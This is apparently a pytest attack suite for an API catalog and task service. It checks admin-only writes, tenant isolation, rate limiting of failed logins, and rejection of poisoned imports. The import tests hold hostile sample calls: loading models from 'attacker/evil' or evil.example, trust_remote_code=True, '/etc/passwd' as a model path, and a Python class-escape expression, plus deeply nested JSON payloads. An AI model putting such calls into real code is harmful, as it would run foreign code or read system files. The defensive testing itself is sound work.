"""The service's attack suite: key scopes, tenants, failed authentication, and catalog
imports that must not hurt anyone else. Each asserts the exact answer and that nothing
leaked or was written, and that the service serves afterwards."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from agent.service import create_app
from retriever.embedder import SentenceTransformerEmbedder
from tests.agent.service.conftest import (
    ADMIN_AUTH,
    AUTH,
    OTHER_KEY,
    RESNET_QUERY,
    LiveServer,
    pipeline_factory,
    service_settings,
)
from tests.conftest import private_copy
from tests.fakes import FakeArm

OTHER_AUTH = {"Authorization": f"Bearer {OTHER_KEY}"}
TOOL = {
    "id": "functions/harbour_tides",
    "hub": "functions",
    "kind": "function",
    "name": "harbour_tides",
    "description": "Tide times for a harbour",
    "parameters": {"type": "object", "properties": {"harbour": {"type": "string"}}},
}


def error_type(reply: httpx.Response, status: int) -> str:
    assert reply.status_code == status, reply.text
    kind: str = reply.json()["error"]["type"]
    return kind


# ------------------------------------------------------------------------- scopes


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/v1/apis", TOOL),
        ("PUT", "/v1/apis/functions/harbour_tides", TOOL),
        ("DELETE", "/v1/apis/torchhub/pytorch/vision/resnet50", None),
        ("POST", "/v1/apis:import?format=openai-tools", [{"name": "x", "parameters": {}}]),
        ("PUT", "/v1/router", {"policy": "random"}),
        ("POST", "/v1/router:reset", None),
    ],
)
def test_a_user_key_cannot_write_the_catalog_or_change_the_router(
    shared_server: LiveServer, method: str, path: str, body: Any
) -> None:
    with shared_server.client(headers=AUTH) as user:
        before_router = user.get("/v1/router").json()
        before_apis = user.get("/v1/apis", params={"limit": 500}).json()
        reply = user.request(method, path, json=body)
        assert error_type(reply, 403) == "forbidden"
        assert "admin key" in reply.json()["error"]["message"]
        assert user.get("/v1/router").json() == before_router
        assert user.get("/v1/apis", params={"limit": 500}).json() == before_apis


def test_an_admin_key_can(shared_server: LiveServer) -> None:
    with shared_server.client(headers=ADMIN_AUTH) as admin:
        assert admin.post("/v1/apis", json=TOOL).status_code == 201
        assert admin.delete("/v1/apis/functions/harbour_tides").status_code == 204
        assert admin.put("/v1/router", json={"policy": "fixed:template"}).status_code == 200


# ------------------------------------------------------------------------- tenants


def test_a_key_sees_and_rates_only_its_own_tasks(shared_server: LiveServer) -> None:
    with (
        shared_server.client(headers=AUTH) as alpha,
        shared_server.client(headers=OTHER_AUTH) as beta,
        shared_server.client(headers=ADMIN_AUTH) as admin,
    ):
        secret_query = "classify images of my private medical scans"
        mine = alpha.post("/v1/tasks", json={"query": secret_query, "execute": False}).json()
        theirs = beta.post("/v1/tasks", json={"query": RESNET_QUERY, "execute": False}).json()

        assert error_type(beta.get(f"/v1/tasks/{mine['id']}"), 404) == "not_found"
        reply = beta.post(f"/v1/tasks/{mine['id']}/feedback", json={"score": -1})
        assert error_type(reply, 404) == "not_found"
        listed = beta.get("/v1/tasks", params={"limit": 200}).json()["items"]
        assert theirs["id"] in {t["id"] for t in listed}
        assert all(t["query"] != secret_query for t in listed)

        assert alpha.get(f"/v1/tasks/{mine['id']}").status_code == 200
        assert error_type(alpha.get(f"/v1/tasks/{theirs['id']}"), 404) == "not_found"
        everyone = {t["id"] for t in admin.get("/v1/tasks", params={"limit": 200}).json()["items"]}
        assert {mine["id"], theirs["id"]} <= everyone
        assert admin.get(f"/v1/tasks/{mine['id']}").json()["query"] == secret_query


def test_twenty_hostile_feedbacks_do_not_move_another_keys_arm(shared_server: LiveServer) -> None:
    with (
        shared_server.client(headers=AUTH) as alpha,
        shared_server.client(headers=OTHER_AUTH) as beta,
    ):
        task = alpha.post("/v1/tasks", json={"query": RESNET_QUERY, "arm": "template"}).json()
        before = alpha.get("/v1/router").json()["arms"]["template"]
        for _ in range(20):
            assert (
                beta.post(f"/v1/tasks/{task['id']}/feedback", json={"score": -1}).status_code == 404
            )
        after = alpha.get("/v1/router").json()["arms"]["template"]
        assert after["feedback_count"] == before["feedback_count"]


# ------------------------------------------------------------------------- failed authentication


def test_failed_authentication_is_rate_limited_per_address(
    start_server: Callable[..., LiveServer],
) -> None:
    server = start_server(auth_failures_per_minute=3)
    with server.client() as client:
        wrong = {"Authorization": "Bearer guess"}
        for _ in range(3):
            assert error_type(client.get("/v1/tasks", headers=wrong), 401) == "unauthorized"
        limited = client.get("/v1/tasks", headers=wrong)
        assert error_type(limited, 429) == "rate_limited"
        assert int(limited.headers["retry-after"]) >= 1
        # While the address is limited even a right key waits: the API is no oracle.
        assert client.get("/v1/tasks", headers=AUTH).status_code == 429
        # No key at all is not a guess (browsers, probes): still a plain 401.
        assert client.get("/v1/tasks").status_code == 401
        assert client.get("/healthz").status_code == 200


# ------------------------------------------------------------------------- imports that cannot hurt


def deep_openapi(levels: int) -> str:
    """An OpenAPI spec whose request schema nests `levels` objects (as text: too deep for
    json.dumps to write)."""
    schema = (
        '{"type": "object", "properties": {"inner": ' * levels
        + '{"type": "string"}'
        + "}}" * levels
    )
    spec = {
        "openapi": "3.0.0",
        "info": {"title": "Deep", "version": "1"},
        "servers": [{"url": "https://deep.example"}],
        "paths": {
            "/deep": {
                "post": {
                    "operationId": "deep_op",
                    "requestBody": {"content": {"application/json": {"schema": "SCHEMA"}}},
                }
            }
        },
    }
    return json.dumps(spec).replace('"SCHEMA"', schema)


@pytest.mark.parametrize("levels", [200, 5000])
def test_a_deeply_nested_schema_is_refused_and_nothing_is_written(
    shared_server: LiveServer, levels: int
) -> None:
    with shared_server.client(headers=ADMIN_AUTH) as admin:
        reply = admin.post(
            "/v1/apis:import", params={"format": "openapi"}, content=deep_openapi(levels)
        )
        assert error_type(reply, 422) == "invalid_import"
        assert reply.status_code == 422
        assert admin.get("/v1/apis", params={"hub": "deep"}).json()["items"] == []
        # ...and every reader still works.
        assert admin.get("/v1/apis", params={"limit": 500}).status_code == 200
        task = admin.post("/v1/tasks", json={"query": RESNET_QUERY, "execute": False})
        assert task.status_code == 201


def test_a_deeply_nested_request_body_is_a_clear_400(api: httpx.Client) -> None:
    nested = "[" * 20_000 + "]" * 20_000
    reply = api.post(
        "/v1/tasks",
        content=f'{{"query": {nested}}}'.encode(),
        headers={"content-type": "application/json"},
    )
    assert error_type(reply, 400) == "bad_request"
    assert api.get("/healthz").status_code == 200


def test_a_huge_enum_is_refused(admin: httpx.Client) -> None:
    tool = {
        "name": "pick_colour",
        "parameters": {
            "type": "object",
            "properties": {"colour": {"type": "string", "enum": [f"c{i}" for i in range(5000)]}},
        },
    }
    reply = admin.post(
        "/v1/apis:import",
        params={"format": "openai-tools", "hub": "colours"},
        content=json.dumps([tool]),
    )
    assert error_type(reply, 422) == "invalid_import"
    assert "enum" in reply.json()["error"]["message"]


@pytest.mark.parametrize(
    ("call", "why"),
    [
        ("torch.hub.load(repo_or_dir='attacker/evil', model='m')", "not an allowed source"),
        ("torch.hub.load('pytorch/vision', 'resnet18', source='local')", "local"),
        ("AutoModel.from_pretrained('x/y', trust_remote_code=True)", "trust_remote_code"),
        ("hub.KerasLayer('https://evil.example/model/1')", "allowed model host"),
        ("AutoModel.from_pretrained('/etc/passwd')", "filesystem path"),
        ("pipeline('x', model=().__class__.__base__)", "not allowed"),
    ],
)
def test_an_import_of_a_doc_that_would_run_foreign_code_is_refused(
    admin: httpx.Client, call: str, why: str
) -> None:
    record = {
        "api_name": "poisoned",
        "api_call": call,
        "domain": "Classification",
        "framework": "PyTorch",
        "description": "classify images with a ResNet-50 trained on ImageNet",
    }
    reply = admin.post(
        "/v1/apis:import",
        params={"format": "apibench", "hub": "torchhub"},
        content=json.dumps(record),
    )
    assert error_type(reply, 422) == "invalid_import"
    message = reply.json()["error"]["message"]
    assert "torchhub/" in message and why in message
    hits = admin.post("/v1/tasks", json={"query": "poisoned", "execute": False}).json()["hits"]
    assert all("poisoned" not in hit["id"] for hit in hits)


def test_an_unreadable_catalog_row_is_skipped_and_can_be_removed(
    small_index_dir: Path,
    tmp_path: Path,
    embedder: SentenceTransformerEmbedder,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A row an older version wrote that this one cannot read must not take the service
    down: it is skipped with a warning, and `DELETE` (`apis rm`) removes it."""
    data_dir = private_copy(small_index_dir, tmp_path)
    with sqlite3.connect(data_dir / "catalog.db") as conn:
        conn.execute(
            "INSERT INTO docs (id, hub, version, body) VALUES (?, ?, ?, ?)",
            (
                "functions/broken",
                "functions",
                1,
                '{"id": "functions/broken", "parameters": ' + "[" * 300 + "]" * 300 + "}",
            ),
        )
    app = create_app(
        service_settings(data_dir),
        pipeline_factory=pipeline_factory(embedder, {"good": FakeArm("good")}),
    )
    server = LiveServer(app, data_dir).start()
    try:
        with server.client(headers=ADMIN_AUTH) as admin:
            assert admin.get("/readyz").status_code == 200
            listed = admin.get("/v1/apis", params={"hub": "functions"}).json()["items"]
            assert listed == []
            assert admin.post("/v1/tasks", json={"query": RESNET_QUERY}).status_code == 201
            assert error_type(admin.get("/v1/apis/functions/broken"), 404) == "not_found"
            assert admin.delete("/v1/apis/functions/broken").status_code == 204
        with sqlite3.connect(data_dir / "catalog.db") as conn:
            assert conn.execute(
                "SELECT count(*) FROM docs WHERE id = 'functions/broken'"
            ).fetchone() == (0,)
    finally:
        server.stop()
    assert "unreadable catalog entry 'functions/broken'" in caplog.text
